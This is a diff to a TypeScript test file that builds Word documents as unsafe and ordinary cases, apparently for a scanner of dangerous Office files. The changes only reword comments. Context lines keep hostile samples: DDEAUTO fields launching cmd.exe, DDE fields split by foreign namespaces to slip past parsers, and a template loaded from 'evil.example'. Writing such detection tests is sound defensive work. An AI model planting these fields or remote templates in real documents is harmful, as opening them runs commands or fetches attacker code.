@@ -15,7 +15,7 @@ type Case = [name: string, bytes: Buffer];
 
 const documentRelationships = 'word/_rels/document.xml.rels';
 
-/** A relationship of the document: its kind, its target, and whether it says that it points outside. */
+/** Makes a relationship: its kind, its target, and whether it is marked external. */
 function pointing(kind: string, target: string, mode = 'External', of = documentRelationships) {
   const type = `${officeRelationships}/${kind}`;
   return docx([
@@ -23,7 +23,7 @@ function pointing(kind: string, target: string, mode = 'External', of = document
   ]);
 }
 
-/** A package whose types and main part are written here. */
+/** Makes a package with the given types and main part. */
 const packageWith = (more: string, parts: ZipPart[]) =>
   zip([
     contentTypes(undefined, more),
@@ -44,11 +44,11 @@ const instruction = (text: string) =>
 const field = (...runs: string[]) =>
   `<w:p>${character('begin')}${runs.join('')}${character('separate')}${run('<w:t>1</w:t>')}${character('end')}</w:p>`;
 
-/** A document of this body. */
+/** Makes a document with this body. */
 const documentOf = (body: string) =>
   zip([contentTypes(), rootRelationships(), wordPart('word/document.xml', body)]);
 
-/** A part beside the document, for instance a header. */
+/** Adds a part beside the document, such as a header. */
 function partWith(root: string, body: string): Buffer {
   const kinds: Record<string, string> = {
     hdr: 'header',
@@ -62,7 +62,7 @@ function partWith(root: string, body: string): Buffer {
 }
 
 const dde = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"';
-/** A document with a drawing among its pictures. */
+/** Makes a document with a drawing among its pictures. */
 function drawing(inside: string, before = '', extension = 'svg'): Buffer {
   const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">${inside}</svg>`;
   const type = '<Default Extension="svg" ContentType="image/svg+xml"/>';
@@ -88,7 +88,7 @@ const rewritten = (name: string, change: (text: string) => Buffer | string) => {
 
 const foreign = 'xmlns:x="urn:x"';
 const compatibility = 'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"';
-/** A DDE field with this between two of its letters, where one program or the other leaves it out. */
+/** Makes a DDE field with this between two of its letters, which some programs leave out. */
 const ddeAround = (between: string) =>
   documentOf(
     field(instruction('DD'), between, instruction('EAUTO cmd')).replace(
@@ -96,7 +96,7 @@ const ddeAround = (between: string) =>
       `<w:p ${foreign} ${compatibility}>`,
     ),
   );
-/** What another namespace is to hide: Word leaves it out, or does not. */
+/** Another namespace hides these, and Word leaves them out or not. */
 const hiddenByNamespaces: Case[] = [
   [
     'template behind a foreign target',
@@ -202,7 +202,7 @@ const hiddenByNamespaces: Case[] = [
   ],
 ];
 
-/** What Word would fetch, run or start. */
+/** Word would load, run or start these. */
 export const unsafeWord: Case[] = [
   ...hiddenByNamespaces,
   ['template by http', pointing('attachedTemplate', 'http://evil.example/t.dotm')],
@@ -464,7 +464,7 @@ export const unsafeOldWord: Case[] = [
   ['DDE field', oldOffice({ '/WordDocument': `${'text'.repeat(2_000)}\u0013 DDEAUTO cmd` })],
 ];
 
-/** What only asks, or stays on the machine, or is written in another way. */
+/** These only ask, stay on the machine, or are ordinary in another spelling. */
 export const ordinaryWord: Case[] = [
   ['template of the machine', pointing('attachedTemplate', 'file:///C:\\Users\\a\\Normal.dotm')],
   ['template by name', pointing('attachedTemplate', 'Normal.dotm')],
